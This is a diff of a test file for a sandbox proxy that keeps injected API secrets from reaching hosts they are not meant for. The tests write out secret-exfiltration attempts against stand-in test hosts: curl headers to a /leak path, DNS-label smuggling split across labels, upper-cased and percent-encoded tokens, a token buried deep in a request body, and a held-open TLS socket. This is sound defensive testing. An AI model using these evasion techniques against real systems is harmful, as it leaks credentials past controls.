@@ -95,11 +95,13 @@ describe('secrets', { skip: captureSkip() || TOOLS_SKIP }, () => {
     const [aS, aH, oS, oH, bS] = await Promise.all(s.map(listen));
     ports = { aS, aH, oS, oH, bS };
     const hosts = path.join(dir, 'hosts');
-    fs.writeFileSync(hosts, '127.0.0.1 api.test other.test bad.test\n');
+    fs.writeFileSync(hosts, '127.0.0.1 api.test other.test bad.test plain.test\n');
     fs.chmodSync(hosts, 0o644);
     secretsFile = path.join(dir, 'secrets.json');
     fs.writeFileSync(secretsFile, JSON.stringify({
-      API_TOKEN: { value: VALUE, hosts: [`api.test:${aS}`, `api.test:${aH}`] },
+      // cleartext: true lets its value go over plain HTTP (aH) too.
+      API_TOKEN: { value: VALUE, hosts: [`api.test:${aS}`, `api.test:${aH}`], cleartext: true },
+      WEB_TOKEN: { value: 'web-only-over-tls-77', hosts: [`api.test:${aS}`, `api.test:${aH}`] },
       OTHER_TOKEN: { value: OTHER_VALUE, hosts: [`other.test:${oH}`] },
       BAD_TOKEN: { value: 'never-sent-anywhere-1', hosts: [`bad.test:${bS}`] },
     }), { mode: 0o600 });
@@ -178,7 +180,7 @@ describe('secrets', { skip: captureSkip() || TOOLS_SKIP }, () => {
   });
 
   test('never another host: cleartext, DNS labels, another secret\'s host, a redirect, a body; end-to-end TLS carries only the placeholder', T, async () => {
-    const o = await call(c, 'open_session', { secrets: ['API_TOKEN', 'OTHER_TOKEN'], network: 'allow', allow_hosts: [`other.test:${ports.oS}`] });
+    const o = await call(c, 'open_session', { secrets: ['API_TOKEN', 'OTHER_TOKEN', 'WEB_TOKEN'], network: 'allow', allow_hosts: [`other.test:${ports.oS}`, `plain.test:${ports.oH}`] });
     const sid = o.session_id;
     const file = o.egress.egress_log_path;
     const tok = (await sh(sid, 'echo "$API_TOKEN"')).stdout.trim();
@@ -191,9 +193,25 @@ describe('secrets', { skip: captureSkip() || TOOLS_SKIP }, () => {
     // placeholder there is refused before anything reaches the server.
     const r1 = await sh(sid, `curl -sS -o /dev/null -w "%{http_code}" -H "X-Api-Key: $API_TOKEN" http://other.test:${ports.oH}/leak`);
     assert.equal(r1.stdout, '403');
-    // DNS: a placeholder in a label.
-    const r2 = await sh(sid, 'getent hosts "$API_TOKEN.other.test" || echo refused');
-    assert.match(r2.stdout, /refused/);
+    // DNS: a placeholder in a label, or split across two.
+    const r2 = await sh(sid, 'getent hosts "$API_TOKEN.other.test" || echo refused; t=$API_TOKEN; getent hosts "$(echo $t | cut -c1-20).$(echo $t | cut -c21-).other.test" || echo refused');
+    assert.equal(r2.stdout, 'refused\nrefused\n');
+    // Another secret's placeholder in a header name, upper-cased, percent-encoded.
+    for (const [what, args] of [['a header name', `-H "X-$OTHER_TOKEN: 1" https://api.test:${ports.aS}/hn`],
+      ['upper case', `-H "X-K: $(echo $OTHER_TOKEN | tr a-z A-Z)" https://api.test:${ports.aS}/uc`],
+      ['percent-encoded', `"https://api.test:${ports.aS}/pe?k=%69$(echo $OTHER_TOKEN | cut -c2-)"`]]) {
+      const x = await sh(sid, `curl -sS -o /dev/null -w "%{http_code}" ${args}`);
+      assert.equal(x.stdout, '403', `${what}: ${x.stdout} ${x.stderr}`);
+    }
+    assert.ok(!seen.api.slice(api).some((x) => ['/hn', '/uc'].includes(x.url) || x.url.startsWith('/pe')), 'a refused request reached api.test');
+    // Cleartext to a host of no secret: looked through past its first
+    // request; a placeholder 70 000 bytes into a body cuts the connection.
+    const big = await sh(sid, `head -c 70000 /dev/zero | tr "\\0" a > /root/big; echo "$API_TOKEN" >> /root/big; curl -sS --data-binary @/root/big http://plain.test:${ports.oH}/big; echo " rc=$?"`);
+    assert.doesNotMatch(big.stdout, / rc=0$/, big.stdout);
+    assert.ok(!seen.other.slice(other).some((x) => x.url === '/big'), 'the body with a placeholder reached plain.test whole');
+    // A secret without cleartext: never over plain HTTP, even to its host.
+    const clear = await sh(sid, `curl -sS -o /dev/null -w "%{http_code}" -H "X-K: $WEB_TOKEN" http://api.test:${ports.aH}/clear`);
+    assert.equal(clear.stdout, '403');
     // A body to its own host is not rewritten (the server gets the placeholder).
     await sh(sid, `curl -sS -d "tok=$API_TOKEN" https://api.test:${ports.aS}/body`);
     const body = seen.api.slice(api).find((x) => x.url === '/body');
@@ -214,6 +232,8 @@ describe('secrets', { skip: captureSkip() || TOOLS_SKIP }, () => {
     assert.ok(await waitUntil(() => fs.existsSync(file) && logLines(file).some((l) => /secret sent to a host it is not for/.test(l.reason ?? '') && l.kind === 'dns'), { timeoutMs: 10_000 }), 'no DNS refusal recorded');
     const lines = logLines(file);
     assert.ok(lines.some((l) => l.kind === 'request' && l.path === '/leak' && l.status === 403 && /secret sent to a host it is not for \(API_TOKEN/.test(l.reason)), JSON.stringify(lines.filter((l) => l.kind === 'request')));
+    assert.ok(lines.some((l) => l.kind === 'request' && l.path === '/clear' && l.status === 403 && /secret not sent without TLS \(WEB_TOKEN/.test(l.reason)), JSON.stringify(lines.filter((l) => l.kind === 'request')));
+    assert.ok(lines.some((l) => l.kind === 'connect' && l.host === 'plain.test' && l.reason === 'secret sent to a host it is not for'), 'the cut cleartext connection is not recorded');
     noValueAnywhere('the flight record', fs.readFileSync(file, 'utf8'));
     await call(c, 'close', { session_id: sid });
   });
@@ -254,6 +274,26 @@ describe('secrets', { skip: captureSkip() || TOOLS_SKIP }, () => {
     assert.equal((await sh(fid, 'echo "$API_TOKEN"')).stdout.trim(), tok);
     assert.equal((await sh(fid, `curl -sS -H "X-Api-Key: $API_TOKEN" https://api.test:${ports.aS}/forked`)).stdout, 'ok\n');
     assert.equal(seen.api.find((x) => x.url === '/forked')?.headers['x-api-key'], VALUE);
+    // Taken away while a connection to its host is open and not yet used:
+    // that connection is reset, and its request never reaches the server.
+    const py = `import os,socket,ssl,time
+ctx = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
+s = ctx.wrap_socket(socket.create_connection(('api.test', ${ports.aS})), server_hostname='api.test')
+open('/root/ready', 'w').close()
+while not os.path.exists('/root/go'): time.sleep(0.05)
+try:
+    s.sendall(b'GET /revoked HTTP/1.1\\r\\nHost: api.test\\r\\nX-K: ' + os.environ['API_TOKEN'].encode() + b'\\r\\n\\r\\n')
+    print('got', s.recv(100))
+except Exception as e:
+    print('reset', type(e).__name__)
+`;
+    await call(c, 'write_file', { session_id: sid, path: '/root/held.py', content_base64: Buffer.from(py).toString('base64') });
+    await sh(sid, '(python3 /root/held.py > /root/held.out 2>&1 &) ; for i in $(seq 100); do [ -e /root/ready ] && break; sleep 0.1; done; ls /root/ready');
+    const rv = await call(c, 'network_update', { session_id: sid, secrets: [] });
+    assert.equal(rv.connections_reset, 1);
+    await sh(sid, 'touch /root/go; for i in $(seq 100); do [ -s /root/held.out ] && break; sleep 0.1; done');
+    assert.match((await sh(sid, 'cat /root/held.out')).stdout, /^(reset|got b'')/);
+    assert.ok(!seen.api.some((x) => x.url === '/revoked'), 'a request on a connection opened before the secret was taken away reached the server');
     // Taken away: the placeholder is gone from new commands, and the host's rule with it.
     const n = await call(c, 'network_update', { session_id: sid, network: 'none', secrets: [] });
     assert.equal(n.mode, 'none');
